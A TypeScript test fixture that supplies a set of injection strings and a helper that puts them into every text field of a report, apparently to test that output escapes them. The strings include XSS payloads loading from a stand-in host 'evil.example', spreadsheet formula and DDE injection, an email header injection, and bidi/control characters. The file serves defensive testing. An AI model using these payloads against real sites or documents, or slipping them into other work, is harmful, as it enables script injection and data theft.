/** Texts that try to be more than text, and reports that are full of them. */
import type { Report } from '../../../src/aggregate/report.ts';

/** Each breaks out of some form that text is put into, if that form lets it. */
export const HOSTILE = {
  script: '<script>fetch("https://evil.example/script");document.title="ran"</script>',
  'end of tags': '</title></style></svg></table></p></code><script src=https://evil.example/x.js></script>',
  'double quotes': '" onmouseover="document.title=\'ran\'" autofocus onfocus="document.title=\'ran\'" x="',
  'single quotes': "' onclick='document.title=`ran`' style='background:url(https://evil.example/q)",
  image: '<img src=https://evil.example/i.png onerror=document.title="ran">',
  svg: '<svg onload=document.title="ran"><image href="https://evil.example/s.png"/><animate onbegin=alert(1)>',
  css: '</style><style>@import url(https://evil.example/c.css);*{background:url(https://evil.example/b)}',
  frame: '<iframe srcdoc="<script>parent.document.title=1</script>" src="https://evil.example/f"></iframe>',
  meta: '<meta http-equiv=refresh content="0;url=https://evil.example/m"><base href=https://evil.example/>',
  link: '<link rel=prefetch href=https://evil.example/l><a href="javascript:alert(1)" ping=https://evil.example/p>x</a>',
  comment: '--><!-- ]]><![CDATA[ <script>document.title="ran"</script> -->',
  entities: '&lt;script&gt;&#60;script&#62;&#x3c;img src=x onerror=alert(1)&#x3e; &quot;&apos;&NewLine;',
  controls: 'a\u0000b\u0007c\u001b[31md\u0085e\u009b31mf\u007f\r\ng\th',
  directions: '\u202egpj.exe\u202c \u2066\u2069\u200b\ufeff\u{e0041}\u2028\u2029',
  'high bytes': '\u00ff\u00fe\u00e9 \ud800 \udc00 \u{1f600}',
  markdown:
    '[x](https://evil.example/) ![i](https://evil.example/i.png) | a | b |\n# h\n- l\n``` \n*b* _i_ ~~s~~ <b>',
  'bare address': 'https://evil.example/a www.evil.example evil@evil.example @user #1 GH-1',
  formula: '=HYPERLINK("https://evil.example/","x")',
  'other formulas': '+1+cmd|\' /C calc\'!A0 -2 @SUM(1) \t=1 ;"a";',
  header: 'x\r\nBcc: victim@evil.example\r\n\r\n<b>body</b>\r\n.\r\n',
} as const;

/** All of them. */
export const HOSTILE_TEXTS: readonly string[] = Object.values(HOSTILE);

/** Times, and words of closed sets, which no log can choose; who must act is one too. */
const OURS =
  /^(\d{4}-\d\d-\d\dT.*|hard|soft|inbound|outbound|critical|warning|notice|good|new|grew|steady|fell|gone|unknown)$/;

/**
 * A report of which every text, wherever it came from, is another one: the given ones in turn, with a number behind,
 * since texts that differ must differ afterwards. Those under a key of `kept` stay.
 */
export function withTexts(
  report: Report,
  texts: readonly string[],
  kept: ReadonlySet<string> = new Set(),
): Report {
  const known = new Map<string, string>();
  const other = (text: string): string => {
    const replacement = known.get(text) ?? `${texts[known.size % texts.length]!}${known.size}`;
    known.set(text, replacement);
    return replacement;
  };
  const replace = (value: unknown): unknown => {
    if (typeof value === 'string') return OURS.test(value) ? value : other(value);
    if (Array.isArray(value)) return value.map(replace);
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(
      Object.entries(value).map(([key, inner]) => [
        key,
        key === 'who_acts' || kept.has(key) ? inner : replace(inner),
      ]),
    );
  };
  return replace(report) as Report;
}
